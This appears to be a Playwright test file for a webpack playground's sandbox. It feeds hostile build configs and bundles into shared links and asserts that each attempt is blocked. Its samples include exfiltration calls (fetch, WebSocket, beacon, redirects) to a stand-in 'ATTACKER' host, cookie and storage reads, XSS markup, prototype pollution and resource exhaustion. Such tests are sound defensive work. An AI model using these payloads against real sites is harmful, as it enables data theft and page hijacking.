/** A shared link with somebody's hostile code, after the visitor has pressed Run: in the build and in the bundle. */
import type { Page } from 'playwright-core';
import { playground } from '../../config/playground';
import { writeProjectHash } from '../../ui/playground/state/project-link';
import { limit } from '../../tools/check/slowness';
import { startLocalServer, type LocalServer } from '../local-server';
import type { Visit } from '../browser/support/start-site';
import { startWorkerSite, untilControlled } from '../browser/support/worker-site';

/** Another host, which answers everything that reaches it; ATTACKER is its origin. */
let attacker: LocalServer;
const hits: string[] = [];
beforeAll(async () => {
  attacker = await startLocalServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  await fetch(`${attacker.url}/works`);
  expect(hits.splice(0)).toEqual(['/works']);
});
afterAll(() => attacker.close());

/** Statements that throw where they are stopped, by what they try. */
type Attempts = Readonly<Record<string, string>>;

interface Attack {
  /** In the configuration, which runs in a worker. */
  readonly build?: Attempts;
  /** In the bundle, which runs in a document. */
  readonly bundle?: Attempts;
}

/** Both run them one after the other, and print which were not stopped. */
const attempt = (attempts: Attempts): string =>
  Object.entries(attempts)
    .map(([name, code]) => `try { ${code}; reached.push(${JSON.stringify(name)}); } catch {}`)
    .join('\n');

async function link(build: string, bundle = ''): Promise<string> {
  const withAttacker = (code: string): string =>
    code
      .replaceAll('https://ATTACKER', attacker.url)
      .replaceAll('wss://ATTACKER', attacker.url.replace('http', 'ws'));
  const files = [
    { path: 'webpack.config.cjs', text: withAttacker(build) },
    { path: 'src/index.js', text: withAttacker(bundle) },
  ];
  return `/playground/${await writeProjectHash({ files, open: 'src/index.js', mode: null })}`;
}

const hostileLink = ({ build = {}, bundle = {} }: Attack): Promise<string> =>
  link(
    `const { DefinePlugin } = require('webpack');
module.exports = async () => {
  const reached = [];
  ${attempt(build)}
  const plugins = [new DefinePlugin({ BUILD: JSON.stringify(reached.join()) })];
  return { mode: 'none', entry: './src/index.js', plugins };
};`,
    `(async () => {
  const reached = [];
  ${attempt(bundle)}
  console.log('reached by the build: ' + JSON.stringify(BUILD) + ', by the bundle: ' + JSON.stringify(reached.join()));
})();`,
  );

const SLOW = { timeout: limit(30_000) };
const PLAIN = 'module.exports = { mode: "none" };';
const consoleOf = (page: Page) => page.getByRole('log', { name: 'Console' });
const untilStatus = (page: Page, text: string | RegExp) =>
  page.getByRole('status').filter({ hasText: text }).waitFor(SLOW);

/** Opens a link, presses Run and shows what the bundle prints. */
async function run({ page, open }: Pick<Visit, 'page' | 'open'>, url: string): Promise<void> {
  await open(url);
  await page.getByText('somebody else’s code').waitFor();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
}

async function runToResult(visit: Pick<Visit, 'page' | 'open'>, url: string, text: string | RegExp) {
  await run(visit, url);
  await untilStatus(visit.page, text);
  await visit.page.getByRole('tab', { name: 'Result' }).click();
}

/** The page has not moved, and builds what the visitor types. */
async function expectUsable({ page, context }: Pick<Visit, 'page' | 'context'>): Promise<void> {
  expect(new URL(page.url()).pathname).toBe('/playground/');
  expect(context.pages()).toHaveLength(1);
  await page.getByRole('combobox', { name: 'Example' }).selectOption('tree-shaking');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await untilStatus(page, /Built in \d+ ms\./);
  await page.getByRole('tab', { name: 'Files' }).last().click();
  await page.getByRole('button', { name: 'dist/main.js' }).waitFor();
}

async function expectNothingReached(visit: Visit, attack: Attack): Promise<void> {
  await runToResult(visit, await hostileLink(attack), /Built in \d+ ms/);
  const report = consoleOf(visit.page).getByText('reached by the build: ');
  await report.waitFor(SLOW);
  expect(await report.textContent()).toBe('reached by the build: "", by the bundle: ""');
  expect(hits.splice(0)).toEqual([]);
  await expectUsable(visit);
}

const { test } = startWorkerSite();
const EXPECTED = { mayThrow: true, timeout: 120_000 } as const;

test(
  'reads no storage and no cookies, reaches no worker of the site and no other document',
  EXPECTED,
  async (visit) => {
    const { page, host } = visit;
    await visit.open('/playground/');
    await page.evaluate(() => {
      localStorage.setItem('secret', '1');
      sessionStorage.setItem('secret', '1');
      document.cookie = 'secret=1; path=/';
    });
    await untilControlled(page);
    const register = 'await navigator.serviceWorker.register("/sw.js")';
    const shared = {
      databases:
        "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })",
      caches: "await caches.open('x')",
      files: 'await navigator.storage.getDirectory()',
      local: 'localStorage.getItem("secret").length',
      register,
      parent: 'parent.document.body',
    };
    await expectNothingReached(visit, {
      build: {
        ...shared,
        cookies: 'document.cookie',
        cookieStore: 'await cookieStore.getAll()',
        opener: 'opener.document',
      },
      bundle: {
        ...shared,
        session: 'sessionStorage.getItem("secret").length',
        written: 'localStorage.setItem("playground", "[]")',
        cookies: 'document.cookie.length',
        cookie: 'document.cookie = "hostile=1; path=/"',
        cookieStore: 'await cookieStore.set("hostile", "1")',
        workers: 'await navigator.serviceWorker.getRegistrations()',
        message: 'navigator.serviceWorker.controller.postMessage({ type: "SKIP_WAITING" })',
        top: 'top.document.body',
        storage: 'parent.localStorage.length',
        element: 'frameElement.ownerDocument',
        sibling:
          'const all = Array.from({ length: top.length }, (_, index) => top[index]); all.find((frame) => frame !== parent)[0].document.body',
        own: 'const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((done) => f.onload = done); f.contentDocument.body',
      },
    });
    expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
    expect(await page.evaluate(() => document.cookie)).not.toContain('hostile');
    const scopes = await page.evaluate(async () =>
      (await navigator.serviceWorker.getRegistrations()).map(({ scope, active }) => [
        scope,
        active?.scriptURL,
      ]),
    );
    expect(scopes).toEqual([[`${host.url}/`, `${host.url}/sw.js`]]);
  },
);

test('opens no windows and makes no requests', EXPECTED, async (visit) => {
  const click = (target: string, href: string): string =>
    `const a = document.createElement('a'); a.href = '${href}'; a.target = '${target}'; document.body.append(a); a.click()`;
  const submit = `const f = document.createElement('form'); f.action = '/vote/'; f.target = '_blank'; document.body.append(f); f.submit()`;
  const load = (tag: string, name: string, url: string): string =>
    `await new Promise((done, fail) => { const e = document.createElement('${tag}'); e.onload = done; e.onerror = fail; e.${name} = '${url}'; document.body.append(e); })`;
  const both: Attempts = {
    fetch: 'const r = await fetch("/search/index.json"); if (!r.ok) throw 1',
    foreign: 'await fetch("https://ATTACKER/", { mode: "no-cors" })',
    request: 'const r = new XMLHttpRequest(); r.open("GET", "https://ATTACKER/", false); r.send()',
    socket:
      'await new Promise((done, fail) => { const s = new WebSocket("wss://ATTACKER"); s.onopen = done; s.onerror = fail; })',
    events:
      'await new Promise((done, fail) => { const s = new EventSource("https://ATTACKER/"); s.onopen = done; s.onerror = fail; })',
    module: 'await import(/* webpackIgnore: true */ "https://ATTACKER/a.js")',
    worker:
      'await new Promise((done, fail) => { const w = new Worker("https://ATTACKER/a.js"); w.onmessage = done; w.onerror = fail; })',
  };
  await expectNothingReached(visit, {
    build: {
      ...both,
      script: 'importScripts("https://ATTACKER/a.js")',
      siteScript: 'importScripts("/boot.js")',
    },
    bundle: {
      ...both,
      beacon: 'navigator.sendBeacon("https://ATTACKER/"); throw 1',
      image: load('img', 'src', 'https://ATTACKER/a.png'),
      siteImage: load('img', 'src', '/icon.svg'),
      script: load('script', 'src', 'https://ATTACKER/a.js'),
      siteScript: load('script', 'src', '/boot.js'),
      preload: `const e = document.createElement('link'); e.rel = 'preload'; e.as = 'image'; e.href = 'https://ATTACKER/p.png'; document.head.append(e); throw 1`,
      styles: `document.body.style.background = 'url(https://ATTACKER/c.png)'; throw 1`,
      media: `await new Audio('https://ATTACKER/a.mp3').play()`,
      connection: `new RTCPeerConnection()`,
      prefixedConnection: `new webkitRTCPeerConnection()`,
      // A click says nothing of what has become of it: what counts is that no window has opened.
      own: 'open("/vote/").document',
      foreignWindow: 'open("https://ATTACKER/").closed',
      link: `${click('_blank', '/vote/')}; throw 1`,
      foreignLink: `${click('_blank', 'https://ATTACKER/')}; throw 1`,
      topLink: `${click('_top', '/vote/')}; throw 1`,
      parentLink: `${click('_parent', 'https://ATTACKER/')}; throw 1`,
      form: `${submit}; throw 1`,
      dialog: 'if (confirm("?") || prompt("?") !== null) 1; else throw 1',
    },
  });
});

test('makes no connections from a document within its frame', EXPECTED, async (visit) => {
  // What has access to the document takes the constructor from there; else a script must run in it.
  const within = (source: string): string => `const f = document.createElement('iframe'); ${source};
    const loaded = new Promise((done) => f.onload = done); document.body.append(f); await loaded`;
  const connect = `const [port] = firstMessage.ports; port.postMessage(typeof RTCPeerConnection)`;
  // A script that the policy stops is reported by an event; one that it does not stop sends a message.
  const stopped = `const told = new Promise((done, fail) => { onmessage = done; addEventListener('securitypolicyviolation', fail); })`;
  // The only script that the inherited policy allows runs what the frame around its parent sends to it. Stopped is what
  // gets no constructor; without an answer the attempt would prove nothing.
  const nested = `const script = '<script>' + document.scripts[0].textContent + '</scr' + 'ipt>';
    f.srcdoc = '<iframe srcdoc="' + script.replaceAll('&', '&amp;').replaceAll('"', '&quot;') + '"></iframe>'`;
  const ownScript = `${within(nested)};
    const { port1, port2 } = new MessageChannel();
    const answer = new Promise((done) => { port1.onmessage = ({ data }) => done(data); });
    f.contentWindow[0].postMessage({ script: new Blob([${JSON.stringify(connect)}]) }, '*', [port2]);
    if (await answer === 'undefined') throw 1`;
  await expectNothingReached(visit, {
    bundle: {
      empty: `${within('')}; new f.contentWindow.RTCPeerConnection()`,
      text: `${within("f.srcdoc = '<p>a</p>'")}; new f.contentWindow.RTCPeerConnection()`,
      // Its message would be sent before its document has loaded.
      script: `let ran = false; onmessage = () => { ran = true; };
        ${within("f.srcdoc = '<script>parent.postMessage(1, \"*\")</scr' + 'ipt>'")};
        await new Promise((done) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = done; port2.postMessage(1); });
        if (!ran) throw 1`,
      scriptUrl: `${stopped}; const f = document.createElement('iframe');
        f.src = 'javascript:parent.postMessage(1, "*")'; document.body.append(f); await told`,
      ownScript,
    },
  });
});

test('leads neither the page nor its own frame elsewhere', EXPECTED, async (visit) => {
  const { page } = visit;
  await expectNothingReached(visit, {
    bundle: {
      top: 'top.location = "/vote/"',
      parent: 'parent.location.href = "https://ATTACKER/"',
      replace: 'top.location.replace("/vote/")',
      history: 'top.history.back()',
      close: 'top.close(); throw 1',
    },
  });
  const leave = 'console.log("leaves"); location.href = "https://ATTACKER/?" + origin;';
  await runToResult(visit, await link(PLAIN, leave), /Built in \d+ ms/);
  await consoleOf(page).getByText('leaves').waitFor();
  await page.getByText('The bundle did not answer for 5 seconds').waitFor();
  expect(hits.splice(0)).toEqual([]);
  await expectUsable(visit);
});

test('posts no message that the page believes', EXPECTED, async (visit) => {
  const { page } = visit;
  const markup = '<img src=x onerror="window.isHacked = 1">';
  const outcome = {
    type: 'built',
    files: [{ path: markup, bytes: [] }],
    statsText: markup,
    graphs: [],
    problems: [{ severity: 'error', message: markup, file: '__proto__', line: 1 }],
    duration: 1,
  };
  const forged = [
    null,
    { type: 'outcome' },
    { type: 'outcome', id: { valueOf: 1 }, outcome },
    { workerError: markup },
    { type: 'progress', id: 1, progress: { step: 'load', part: markup, bytes: 'x' } },
  ].map((message) => `self.postMessage(${JSON.stringify(message)});`);
  const build = `
for (let id = 0; id < 9; id += 1) {
  const outcome = ${JSON.stringify(outcome)};
  for (const file of outcome.files) file.bytes = new Uint8Array(1);
  self.postMessage({ type: 'outcome', id, outcome });
}
${forged.join('\n')}
module.exports = () => ({ mode: 'none' });`;
  await run(visit, await link(build));
  // Its own build ends, by itself or with what it says: the page shows that as text.
  await untilStatus(page, /Built in \d+ ms|Not built/);
  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
  await expectUsable(visit);

  const messages = ['SKIP_WAITING', 'outcome', 'pong'].map((type) => ({ type, id: 1, outcome }));
  const post = `for (const message of ${JSON.stringify(messages)}) { top.postMessage(message, '*'); parent.postMessage(message, '*', [new MessageChannel().port1]); }
console.log(${JSON.stringify(markup)});`;
  await runToResult(visit, await link(PLAIN, post), /Built in \d+ ms/);
  await consoleOf(page).getByText(markup).waitFor();
  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
  await expectUsable(visit);
});

test('changes no prototype of the page', EXPECTED, async (visit) => {
  const trick = `Object.prototype.polluted = 1; Array.prototype.map = null; Promise.prototype.then = null`;
  const data = `module.exports = { mode: 'none', ['__proto__']: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } };`;
  const emit = `module.exports = { mode: 'none', plugins: [{ apply(compiler) { compiler.hooks.thisCompilation.tap('a', (c) => {
    c.hooks.processAssets.tap('a', () => c.emitAsset('__proto__', new (require('webpack').sources.RawSource)('polluted'))); }); } }] };`;
  for (const config of [`${trick}\nmodule.exports = () => ({ mode: 'none' });`, data, emit]) {
    await run(visit, await link(config, `Object.prototype.polluted = 1; console.log('ran');`));
    await untilStatus(visit.page, /Not built|Built in/);
    expect(await visit.page.evaluate(() => 'polluted' in {})).toBe(false);
  }
  await expectUsable(visit);
});

test('takes neither endless time nor all memory', EXPECTED, async (visit) => {
  const { page } = visit;
  const take = `const all = []; for (let i = 0; i < 1024; i += 1) all.push(new Uint8Array(2 ** 20).fill(1));`;
  const config = `${take}\nmodule.exports = () => ({ mode: 'none' });`;
  const url = await link(config, `${take}\nconsole.log('took ' + all.length);`);
  await runToResult(visit, url, /Not built|Built in/);
  await page
    .getByText(/took 1024|did not answer|has run for|RangeError|could not be fetched/)
    .first()
    .waitFor();
  await expectUsable(visit);

  await page.clock.install();
  await run(visit, await link('for (;;) {}\nmodule.exports = {};'));
  await untilStatus(page, '0 %');
  await page.clock.fastForward(playground.buildLimit + 1000);
  await page.getByText('The build took longer than 20 seconds and was ended').waitFor();
  expect(await page.locator('iframe').count()).toBe(0);
  await expectUsable(visit);
});
